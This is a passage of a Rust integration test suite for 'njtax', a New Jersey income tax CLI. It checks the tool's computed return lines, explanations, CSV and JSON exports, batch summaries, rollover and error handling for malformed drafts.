//! The `njtax` command line as a clinic or a script uses it: exit codes, JSON shape, messages.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic on broken fixtures

use std::path::PathBuf;
use std::process::{Command, Output};

fn njtax(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_njtax"))
        .args(args)
        .output()
        .unwrap()
}

fn example(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("examples")
        .join(name)
        .display()
        .to_string()
}

fn temp_draft(name: &str, text: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("njtax-cli-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn compute_json_has_year_lines_by_official_id_refund_and_diagnostics() {
    let out = njtax(&["compute", &example("single-renter.ron"), "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["tax_year"], 2024);
    assert_eq!(v["form"], "NJ-1040");
    for id in [
        "15", "16a", "28c", "29", "40a", "42", "43", "55", "66", "80",
    ] {
        let s = v["lines"][id]
            .as_str()
            .unwrap_or_else(|| panic!("line {id} missing"));
        assert!(
            s.parse::<rust_decimal::Decimal>().is_ok(),
            "line {id} = {s}"
        );
        assert_eq!(
            s.split('.').nth(1).map(str::len),
            Some(2),
            "line {id} has two decimals"
        );
    }
    assert!(v["refund"].is_string() && v["balance_due"].is_string());
    assert!(v["diagnostics"].is_array());
    // Line 55 is the sum of the example's W-2 box 17 amounts.
    let text = std::fs::read_to_string(example("single-renter.ron")).unwrap();
    let draft = njtax_engine::parse_draft(&text).unwrap();
    let box17: rust_decimal::Decimal = draft
        .answers
        .income
        .w2s
        .iter()
        .map(|w| w.nj_tax_withheld)
        .sum();
    assert!(box17 > rust_decimal::Decimal::ZERO);
    assert_eq!(v["lines"]["55"], format!("{box17:.2}"));
}

#[test]
fn compute_text_prints_every_line_and_the_refund_or_balance_due() {
    let out = njtax(&["compute", &example("single-renter.ron")]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("NJ-1040 for tax year 2024"));
    assert!(text.contains("Refund:") || text.contains("Balance due:"));
    assert!(text.contains("Total New Jersey income tax withheld"));
}

#[test]
fn explain_prints_rule_inputs_and_citation_for_a_line() {
    let out = njtax(&["explain", &example("single-renter.ron"), "55"]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("Line 55:"), "{text}");
    assert!(text.contains("Rule:"));
    assert!(text.contains("Citation: N.J.S.A. 54A:7-3"));
    assert!(text.contains("income.w2s[0].nj_tax_withheld"));
}

/// The lines an explanation read are named by their number on the return's own form, and a ratio
/// reads as a percentage: on an NJ-1040NR, line 42 is line 40 times line 41 (63.38%), not "$0.63"
/// of lines named by their keys.
#[test]
fn explain_names_the_lines_it_read_by_the_returns_own_numbers() {
    let out = njtax(&[
        "explain",
        &example("residency/02-single-ny-resident-nj-commuter-pension-2024.ron"),
        "42",
    ]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("Tax as if a resident: $4,538.68 (line 40)"),
        "{text}"
    );
    assert!(
        text.contains("Income percentage: 63.38% (line 41)"),
        "{text}"
    );
    assert!(!text.contains("(line income_percentage)"), "{text}");
    let out = njtax(&["explain", &example("single-renter.ron"), "42"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("(line 39)"), "{text}");
    assert!(!text.contains("(line taxable_income)"), "{text}");
}

#[test]
fn explain_of_an_unknown_line_exits_2_and_lists_the_lines() {
    let out = njtax(&["explain", &example("single-renter.ron"), "99z"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no line \"99z\""));
}

#[test]
fn validate_exits_0_for_a_clean_draft() {
    let out = njtax(&["validate", &example("single-renter.ron")]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

#[test]
fn validate_exits_1_when_the_return_has_errors() {
    let path = temp_draft(
        "no-ssn.ron",
        "Draft(format_version: 1, answers: (tax_year: 2024, taxpayer: (name: \"A B\")))",
    );
    let out = njtax(&["validate", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("missing-ssn"));
}

#[test]
fn validate_exits_2_with_file_line_and_column_for_a_malformed_draft() {
    let path = temp_draft(
        "broken.ron",
        "Draft(\n  format_version: 1,\n  answers: (tax_year: 2024, income: (w2s: [(state_wages: 12)])),\n)",
    );
    let out = njtax(&["validate", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("broken.ron"), "{err}");
    assert!(err.contains("line 3, column"), "{err}");
    assert!(err.contains("in double quotes"), "{err}");
}

#[test]
fn unknown_fields_and_wrong_types_are_parse_errors_not_panics() {
    for (name, text) in [
        (
            "unknown.ron",
            "Draft(format_version: 1, answers: (tax_year: 2024, wages: \"1\"))",
        ),
        (
            "wrongtype.ron",
            "Draft(format_version: 1, answers: (tax_year: \"2024\"))",
        ),
        (
            "badstatus.ron",
            "Draft(format_version: 1, answers: (filing_status: Married))",
        ),
        (
            "baddate.ron",
            "Draft(format_version: 1, answers: (taxpayer: (birth_date: Some(\"1990-02-30\"))))",
        ),
        (
            "truncated.ron",
            "Draft(format_version: 1, answers: (tax_year: 2024, income: (w2s: [(",
        ),
        ("empty.ron", ""),
    ] {
        let path = temp_draft(name, text);
        let out = njtax(&["validate", path.to_str().unwrap()]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(name) && err.contains("line"), "{name}: {err}");
        assert!(!err.contains("panicked"), "{name}: {err}");
    }
}

#[test]
fn a_draft_from_a_newer_version_is_refused_naming_both_versions() {
    let path = temp_draft(
        "newer.ron",
        "Draft(format_version: 99, answers: (tax_year: 2024, new_field: 1))",
    );
    let out = njtax(&["validate", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    let current = format!("version {}", njtax_engine::FORMAT_VERSION);
    assert!(err.contains("99") && err.contains(&current), "{err}");
}

#[test]
fn an_unsupported_year_is_refused_with_the_supported_range() {
    let path = temp_draft(
        "y2017.ron",
        "Draft(format_version: 1, answers: (tax_year: 2017))",
    );
    let out = njtax(&["compute", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("2017") && err.contains("2018-2026"), "{err}");
}

/// The back years 2018-2021 compute (issue 21): each year's own line numbers, and the notice
/// that the return is mailed.
#[test]
fn a_back_year_computes_with_its_own_line_numbers_and_the_mail_notice() {
    let path = temp_draft(
        "y2018.ron",
        "Draft(format_version: 1, answers: (tax_year: 2018, filing_status: Single, taxpayer: (name: \"Back Filer\", ssn: \"400-00-0018\", birth_date: Some(\"1980-01-01\")), income: (w2s: [(employer: \"Shop\", state_wages: \"30000.00\", nj_tax_withheld: \"900.00\")])))",
    );
    let out = njtax(&["compute", path.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("NJ-1040 for tax year 2018"), "{text}");
    // 2018 numbering: NJ taxable income is line 40, the tax line 41, the refund line 75.
    assert!(
        text.lines()
            .any(|l| l.trim_start().starts_with("41  Tax on amount on line 40")),
        "{text}"
    );
    assert!(
        text.lines()
            .any(|l| l.trim_start().starts_with("75  Refund amount")),
        "{text}"
    );
    assert!(text.contains("Tax year 2018 is a back year"), "{text}");
}

#[test]
fn a_missing_file_exits_2_naming_it() {
    let out = njtax(&["compute", "/nonexistent/draft.ron"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent/draft.ron"));
}

#[test]
fn absurd_amounts_do_not_panic() {
    let huge = "79228162514264337593543950335";
    let text = format!(
        "Draft(format_version: 1, answers: (tax_year: 2024, taxpayer: (name: \"A B\", ssn: \"400-00-0001\", birth_date: Some(\"1950-01-01\")), \
         income: (w2s: [(state_wages: \"{huge}\", nj_tax_withheld: \"{huge}\"), (state_wages: \"{huge}\")], \
         retirement: [(taxable_amount: \"{huge}\")], businesses: [(net_profit: \"-{huge}\")]), \
         homesteads: [(property_taxes: \"{huge}\")], deductions: (medical_expenses: \"{huge}\"), \
         federal: (agi: \"{huge}\", earned_income: \"{huge}\", dependent_care_credit: \"{huge}\")))"
    );
    let path = temp_draft("huge.ron", &text);
    let out = njtax(&["compute", path.to_str().unwrap(), "--json"]);
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("panicked"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn batch_summarises_every_example_and_reports_unreadable_ones() {
    let bad = temp_draft("zz-bad.ron", "not a draft");
    let out = njtax(&["batch", &example(""), bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("single-renter.ron"));
    assert!(text.contains("zz-bad.ron") && text.contains("unreadable"));
}

#[test]
fn batch_keeps_the_file_name_visible_for_long_paths() {
    let dir = std::env::temp_dir()
        .join(format!("njtax-cli-test-{}", std::process::id()))
        .join("a-rather-long-folder-name-for-a-clinic-laptop/season-2025/returns-to-review");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(example("single-renter.ron"), dir.join("single-renter.ron")).unwrap();
    let out = njtax(&["batch", dir.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).contains("single-renter.ron"));
}

fn fixture_draft(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/drafts")
        .join(name)
        .display()
        .to_string()
}

/// The business credits schedule and ledger are printed and in the JSON (54A:4-11 c).
#[test]
fn compute_prints_the_business_credits_schedule_and_ledger() {
    let out = njtax(&["compute", &fixture_draft("v3.ron")]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Business credits schedule"), "{text}");
    assert!(text.contains("Carryover ledger"), "{text}");
    let out = njtax(&["compute", &fixture_draft("v3.ron"), "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["lines"]["46"], "884.50");
    let ledger = v["business_credits"]["ledger"].as_array().unwrap();
    assert_eq!(ledger.len(), 2);
    assert_eq!(ledger[1]["remaining"], "1065.50");
    // A return without business credits prints no schedule.
    let out = njtax(&["compute", &example("single-renter.ron")]);
    assert!(!String::from_utf8_lossy(&out.stdout).contains("Business credits schedule"));
}

/// `njtax rollover` writes next year's draft with the carryovers still usable, and refuses to
/// overwrite a file without --force.
#[test]
fn rollover_writes_next_years_draft_and_refuses_to_overwrite_without_force() {
    let dir = std::env::temp_dir().join(format!("njtax-cli-rollover-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let next = dir.join("next.ron");
    let _ = std::fs::remove_file(&next);
    let path = next.display().to_string();
    let out = njtax(&["rollover", &fixture_draft("v3.ron"), "--out", &path]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let d = njtax_engine::parse_draft(&std::fs::read_to_string(&next).unwrap()).unwrap();
    assert_eq!(d.answers.tax_year, 2025);
    assert_eq!(d.answers.business_credits.carryovers.len(), 1);
    assert_eq!(
        d.answers.business_credits.carryovers[0].remaining,
        rust_decimal::Decimal::new(106_550, 2)
    );
    let again = njtax(&["rollover", &fixture_draft("v3.ron"), "--out", &path]);
    assert_eq!(again.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&again.stderr).contains("--force"));
    let forced = njtax(&[
        "rollover",
        &fixture_draft("v3.ron"),
        "--out",
        &path,
        "--force",
    ]);
    assert!(forced.status.success());
}

/// `njtax rollover` of a format 5 draft carries the home address unchanged and writes this year's
/// line 29 as next year's "last year's New Jersey gross income", replacing the figure the draft
/// had for its own last year. The fixture: joint, the taxpayer 66; line 27 = 52,000 pension +
/// 9,000 interest = 61,000; 28a = 52,000 (income at most $100,000: all of it, 54A:6-10); 28b =
/// 9,000 (the unused part of the exclusion, at most the other income, 54A:6-15); line 29 = 0.
#[test]
fn rollover_carries_the_address_and_this_years_line_29() {
    let dir = std::env::temp_dir().join(format!("njtax-cli-rollover5-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let next = dir.join("next.ron");
    let _ = std::fs::remove_file(&next);
    let fixture = fixture_draft("v5.ron");
    let this = njtax_engine::parse_draft(&std::fs::read_to_string(&fixture).unwrap()).unwrap();
    assert_eq!(
        this.answers.last_year.nj_gross_income,
        Some(rust_decimal::Decimal::new(6_123_450, 2))
    );
    let out = njtax(&["rollover", &fixture, "--out", &next.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let d = njtax_engine::parse_draft(&std::fs::read_to_string(&next).unwrap()).unwrap();
    assert_eq!(d.format_version, njtax_engine::FORMAT_VERSION);
    assert_eq!(d.answers.tax_year, 2025);
    assert_eq!(d.answers.address, this.answers.address);
    assert_eq!(
        d.answers.address.lines(),
        vec!["12 Linden Avenue, Apt 3", "Trenton, NJ 08608"]
    );
    assert_eq!(d.answers.address.municipality_code, "1111");
    assert_eq!(
        d.answers.last_year.nj_gross_income,
        Some(rust_decimal::Decimal::ZERO)
    );
}

/// `njtax estimate-impaired` prints one row per employee entered (P.L.2019, c.32, s.6 d).
#[test]
fn estimate_impaired_prints_each_employees_case_amount_and_deadline() {
    let draft = temp_draft(
        "impaired.ron",
        r#"Draft(format_version: 3, answers: (tax_year: 2024, business_credits: (impaired_employee_estimates: [
            (name: "Alex", hours_last_year: "1000", wages_last_year: "14130", payroll_taxes_last_year: "1080.95",
             hours_this_year: "1000", minimum_wage_this_year: "15.13", minimum_wage_last_year: "14.13",
             payroll_tax_rate_this_year: "0.0765", state_increase_without_law: "0.40", federal_increase: "0"),
        ])))"#,
    );
    let out = njtax(&["estimate-impaired", &draft.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Alex") && text.contains("d(1)(a)"), "{text}");
    let none = njtax(&["estimate-impaired", &fixture_draft("v3.ron")]);
    assert!(String::from_utf8_lossy(&none.stdout).contains("no employee"));
}

/// A reader that goes away (`njtax batch examples/ | head -1`) ends the program quietly with exit 0,
/// not a panic: standard output is closed before the program writes anything.
#[test]
fn a_closed_output_pipe_ends_quietly_without_a_panic() {
    use std::process::Stdio;
    let mut child = Command::new(env!("CARGO_BIN_EXE_njtax"))
        .args(["batch", &format!("{}/examples", env!("CARGO_MANIFEST_DIR"))])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
}

/// A 2024 single filer with $100,000 of wages and nothing withheld, filing and paying on
/// 2025-05-20 (due 2025-04-15): line 67 is the balance the late additions are measured on.
const LATE_DRAFT: &str = r#"Draft(
  format_version: 4,
  answers: (
    tax_year: 2024,
    income: (w2s: [(state_wages: "100000.00", nj_tax_withheld: "0")]),
    filing: (filed_on: Some("2025-05-20")),
  ),
)"#;

#[test]
fn plan_prints_next_years_installments_and_the_late_estimate_54a_8_5_9_6_a() {
    let path = temp_draft("late-plan.ron", LATE_DRAFT);
    let out = njtax(&["plan", path.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("Next year's estimated tax (2025, NJ-1040-ES)"),
        "{text}"
    );
    assert!(text.contains("2025-06-16"), "{text}");
    assert!(text.contains("2026-01-15"), "{text}");
    assert!(
        text.contains("Late filing and payment (estimate)"),
        "{text}"
    );
    assert!(text.contains("Estimate only."), "{text}");
    // compute's text output carries them too.
    let out = njtax(&["compute", path.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Next year's estimated tax (2025"), "{text}");
    assert!(text.contains("(estimate)"), "{text}");
}

#[test]
fn compute_json_has_the_plan_and_the_late_estimate_with_two_decimals() {
    let path = temp_draft("late-json.ron", LATE_DRAFT);
    let out = njtax(&["compute", path.to_str().unwrap(), "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let due: rust_decimal::Decimal = v["lines"]["67"].as_str().unwrap().parse().unwrap();
    let plan = &v["next_year"];
    assert_eq!(plan["year"], 2025);
    assert_eq!(plan["required"], true);
    let installments = plan["installments"].as_array().unwrap();
    assert_eq!(installments.len(), 4);
    let sum: rust_decimal::Decimal = installments
        .iter()
        .map(|i| {
            i["amount"]
                .as_str()
                .unwrap()
                .parse::<rust_decimal::Decimal>()
                .unwrap()
        })
        .sum();
    // No withholding: the plan is this year's tax after credits (line 50); line 67 also carries
    // line 52's interest, which is not next year's tax.
    let line_50: rust_decimal::Decimal = v["lines"]["50"].as_str().unwrap().parse().unwrap();
    assert_eq!(sum, line_50);
    assert!(due >= line_50);
    assert_eq!(installments[0]["due"], "2025-04-15");
    let late = &v["late"];
    assert_eq!(late["estimate"], true);
    assert_eq!(late["months_filed_late"], 2);
    // Late filing: $100 x 2 + 10% of line 67.
    let lf: rust_decimal::Decimal = late["late_filing"].as_str().unwrap().parse().unwrap();
    assert_eq!(
        lf,
        rust_decimal::dec!(200) + (due * rust_decimal::dec!(0.10)).round_dp(2)
    );
    assert_eq!(
        late["total"]
            .as_str()
            .unwrap()
            .split('.')
            .nth(1)
            .map(str::len),
        Some(2)
    );
}

#[test]
fn an_on_time_return_has_no_late_estimate_in_json() {
    let out = njtax(&["compute", &example("single-renter.ron"), "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["late"].is_null());
    assert!(v["next_year"].is_object());
}

/// A fresh, empty folder for one test.
fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir()
        .join(format!("njtax-cli-test-{}", std::process::id()))
        .join(name);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Split RFC 4180 CSV text into records of fields (quoted fields may hold commas, quotes, newlines).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

#[test]
fn export_json_lists_every_line_with_form_id_key_label_and_a_two_decimal_value() {
    let out = njtax(&["export", &example("single-renter.ron"), "--format", "json"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["tax_year"], 2024);
    let lines = v["lines"].as_array().unwrap();
    assert!(lines.len() > 40, "{} lines", lines.len());
    for l in lines {
        let keys: Vec<&str> = l.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            ["filer", "form", "key", "label", "line", "value"],
            "{l}"
        );
        let value = l["value"].as_str().unwrap();
        assert_eq!(value.split('.').nth(1).map(str::len), Some(2), "{l}");
        assert!(value.parse::<rust_decimal::Decimal>().is_ok(), "{l}");
    }
    let l29 = lines.iter().find(|l| l["line"] == "29").unwrap();
    assert_eq!(l29["form"], "NJ-1040");
    assert_eq!(l29["key"], "gross_income");
    assert!(v["diagnostics"].is_array());
    // A draft with errors exports them with severity, code, message and path.
    let no_ssn = temp_draft(
        "export-no-ssn.ron",
        "Draft(format_version: 1, answers: (tax_year: 2024, taxpayer: (name: \"A B\")))",
    );
    let out = njtax(&["export", no_ssn.to_str().unwrap(), "--format", "json"]);
    assert_eq!(out.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let diags = v["diagnostics"].as_array().unwrap();
    assert!(
        diags
            .iter()
            .any(|d| d["code"] == "missing-ssn" && d["severity"] == "error"),
        "{v}"
    );
    for d in diags {
        for k in ["severity", "code", "message", "path", "form"] {
            assert!(d.get(k).is_some(), "{k} missing in {d}");
        }
    }
}

#[test]
fn export_csv_has_a_header_and_quotes_a_label_with_a_comma() {
    let out = njtax(&["export", &example("single-renter.ron"), "--format", "csv"]);
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with("record,form,filer,line,key,label,value,severity,code,message,path\r\n"),
        "{text}"
    );
    // Line 6's label has a comma: quoted, and read back whole.
    assert!(
        text.contains(
            "line,NJ-1040,household,6,exemption_regular,\"Regular exemption (you, spouse/CU partner)\",1000.00,"
        ),
        "{text}"
    );
    let rows = parse_csv(&text);
    assert!(
        rows.iter().all(|r| r.len() == 11),
        "every row has 11 fields"
    );
    let l6 = rows.iter().find(|r| r[3] == "6").unwrap();
    assert_eq!(l6[5], "Regular exemption (you, spouse/CU partner)");
}

#[test]
fn export_writes_to_a_file_and_refuses_to_overwrite_without_force() {
    let dir = temp_dir("export-out");
    let target = dir.join("lines.csv");
    let t = target.to_str().unwrap();
    let draft = example("single-renter.ron");
    let out = njtax(&["export", &draft, "--format", "csv", "-o", t]);
    assert_eq!(out.status.code(), Some(0));
    assert!(out.stdout.is_empty());
    assert!(
        std::fs::read_to_string(&target)
            .unwrap()
            .starts_with("record,")
    );
    std::fs::write(&target, "keep me").unwrap();
    let out = njtax(&["export", &draft, "--format", "json", "-o", t]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--force"));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep me");
    let out = njtax(&["export", &draft, "--format", "json", "-o", t, "--force"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(std::fs::read_to_string(&target).unwrap().starts_with('{'));
    // An unreadable draft exits 2 and writes nothing.
    let bad = temp_draft("export-bad.ron", "not a draft");
    let none = dir.join("none.csv");
    let out = njtax(&[
        "export",
        bad.to_str().unwrap(),
        "--format",
        "csv",
        "-o",
        none.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(!none.exists());
}

#[test]
fn batch_summary_csv_keeps_going_past_a_malformed_draft_among_good_ones() {
    let dir = temp_dir("batch-summary");
    std::fs::copy(example("single-renter.ron"), dir.join("a-single.ron")).unwrap();
    std::fs::write(
        dir.join("b-broken.ron"),
        "Draft(\n  format_version: 1,\n  answers: (tax_year: 2024, income: (w2s: [(state_wages: 12)])),\n)",
    )
    .unwrap();
    std::fs::copy(
        example("retired-couple-pensions.ron"),
        dir.join("c-retired.ron"),
    )
    .unwrap();
    let summary = dir.join("out").join("summary.csv");
    std::fs::create_dir_all(summary.parent().unwrap()).unwrap();
    let s = summary.to_str().unwrap();
    let out = njtax(&["batch", dir.to_str().unwrap(), "-o", s]);
    // 2: a draft could not be read (the worst of the drafts, as `batch` always exits).
    assert_eq!(out.status.code(), Some(2));
    // Not a terminal: no progress line; only the note that the subfolder `out` was not searched.
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("out: a folder inside") && !stderr.contains("3 drafts"),
        "{stderr}"
    );
    let rows = parse_csv(&std::fs::read_to_string(&summary).unwrap());
    assert_eq!(
        rows[0],
        [
            "file",
            "name",
            "year",
            "forms",
            "status",
            "gross_income",
            "tax",
            "refund",
            "balance_due",
            "errors",
            "message",
            "clinic_status",
            "preparer",
            "open_notes"
        ]
    );
    assert_eq!(rows.len(), 4, "{rows:?}");
    assert!(rows[1][0].ends_with("a-single.ron"));
    assert!(rows[2][0].ends_with("b-broken.ron"));
    assert!(rows[3][0].ends_with("c-retired.ron"));
    for good in [&rows[1], &rows[3]] {
        assert_eq!(good[4], "ok", "{good:?}");
        assert!(!good[1].is_empty());
        assert_eq!(good[3], "NJ-1040");
        assert_eq!(good[9], "0");
        assert!(good[10].is_empty());
    }
    // The summary's figures are compute's.
    let v: serde_json::Value = serde_json::from_slice(
        &njtax(&["compute", &example("single-renter.ron"), "--json"]).stdout,
    )
    .unwrap();
    assert_eq!(rows[1][2], "2024");
    assert_eq!(rows[1][5], v["lines"]["29"].as_str().unwrap());
    assert_eq!(rows[1][6], v["lines"]["43"].as_str().unwrap());
    assert_eq!(rows[1][7], v["refund"].as_str().unwrap());
    assert_eq!(rows[1][8], v["balance_due"].as_str().unwrap());
    let bad = &rows[2];
    assert_eq!(bad[4], "unreadable");
    assert!(bad[10].contains("line 3, column"), "{bad:?}");
    assert!(bad[5..10].iter().all(String::is_empty), "{bad:?}");
    // The summary is not overwritten without --force.
    let out = njtax(&["batch", dir.to_str().unwrap(), "-o", s]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--force"));
    let out = njtax(&["batch", dir.to_str().unwrap(), "-o", s, "--force"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stdout)
            .contains("3 draft(s), 2 ok, 0 with errors, 1 unreadable")
    );
}

/// `njtax batch` on odd folders: nothing is passed over without a word. A folder that cannot be
/// read is a row of its own (exit 2), an empty folder says it holds no draft (exit 2), a FIFO
/// named `x.ron` is reported and never opened (it would block), a subfolder is named as not
/// searched, and `.RON` is a draft like `.ron`. Unix only: FIFOs and folder modes.
#[cfg(unix)]
#[test]
fn batch_reports_what_it_does_not_read() {
    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
    let dir = temp_dir("batch-odd");
    std::fs::copy(example("single-renter.ron"), dir.join("upper.RON")).unwrap();
    std::fs::create_dir(dir.join("sub")).unwrap();
    std::fs::copy(example("single-renter.ron"), dir.join("sub/inside.ron")).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(dir.join("pipe.ron"))
            .status()
            .unwrap()
            .success()
    );
    let d = dir.to_str().unwrap();
    let out = njtax(&["batch", d]);
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(out.status.code(), Some(2), "{stdout}{stderr}");
    assert!(
        stdout.contains("upper.RON") && !stdout.contains("inside.ron"),
        "{stdout}"
    );
    assert!(
        stdout.contains("pipe.ron") && stdout.contains("not a regular file"),
        "{stdout}"
    );
    assert!(
        stderr.contains("sub") && stderr.contains("not searched"),
        "{stderr}"
    );
    // The same in the CSV summary and the JSON lines.
    let csv = dir.join("summary.csv");
    let out = njtax(&["batch", d, "-o", csv.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let rows = parse_csv(&std::fs::read_to_string(&csv).unwrap());
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert!(
        rows.iter()
            .any(|r| r[0].ends_with("pipe.ron") && r[4] == "unreadable")
    );
    assert!(
        rows.iter()
            .any(|r| r[0].ends_with("upper.RON") && r[4] == "ok")
    );
    let out = njtax(&["batch", d, "--json"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("not a regular file"));

    // An empty folder.
    let empty = temp_dir("batch-empty");
    let out = njtax(&["batch", empty.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("no drafts"), "{stderr}");

    // A folder that cannot be read: as another user when the tests run as root (root reads it).
    let locked = temp_dir("batch-locked");
    std::fs::copy(example("single-renter.ron"), locked.join("a.ron")).unwrap();
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    let bin = env!("CARGO_BIN_EXE_njtax");
    let mut cmd = if std::fs::metadata(&dir).unwrap().uid() == 0 {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", bin]);
        c
    } else {
        Command::new(bin)
    };
    let out = cmd
        .args(["batch", locked.to_str().unwrap()])
        .output()
        .unwrap();
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{stdout}");
    assert!(
        stdout.contains("batch-locked") && stdout.contains("cannot read the folder"),
        "{stdout}"
    );
}

/// An SSN typed into an amount: the messages name the answer, never the value, on standard error
/// (`validate`) and in the batch summary (`batch -o`); so does the error for text typed in the app
/// that could not be read.
#[test]
fn an_ssn_typed_into_an_amount_is_not_repeated_on_stderr_or_in_the_batch_csv() {
    let ssn = "123-45-6789";
    let text = std::fs::read_to_string(example("single-renter.ron"))
        .unwrap()
